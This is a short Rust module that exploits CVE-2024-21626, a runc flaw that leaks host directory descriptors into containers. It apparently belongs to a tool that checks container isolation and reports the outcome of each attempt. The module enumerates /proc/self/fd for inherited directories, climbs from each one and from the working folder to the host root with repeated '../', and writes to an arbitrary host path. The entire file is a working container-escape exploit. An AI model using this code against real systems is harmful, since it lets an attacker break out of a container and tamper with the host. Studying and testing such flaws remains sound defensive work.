//! Descriptors of the host that a runtime forgot to close (CVE-2024-21626): whoever holds a
//! folder of the host, as a descriptor or as the working folder, walks up from it to the root.

use std::fs;
use std::path::PathBuf;

use super::file;
use crate::line;

/// More than any folder is deep.
const UP: usize = 24;

/// Walks up from everything that was inherited, and writes to `path` of the host.
pub fn attack(path: &str) {
    let mut ways = vec![PathBuf::from(".")];
    ways.extend(inherited());
    let climb = "../".repeat(UP);
    let relative = path.trim_start_matches('/');
    for way in ways {
        let what = format!("walk up from {} and write {path}", way.display());
        line::attempt(&what);
        line::outcome(what, file::mark(&way.join(&climb).join(relative)));
    }
}

/// Descriptors of folders that are not our own doing.
fn inherited() -> Vec<PathBuf> {
    let entries = fs::read_dir("/proc/self/fd")
        .into_iter()
        .flatten()
        .flatten();
    let folders = entries.map(|entry| entry.path()).filter(|path| {
        let target = fs::read_link(path).unwrap_or_default();
        // The one that lists them.
        let own = target.ends_with("fd") && target.starts_with("/proc");
        path.is_dir() && !own
    });
    folders.collect()
}
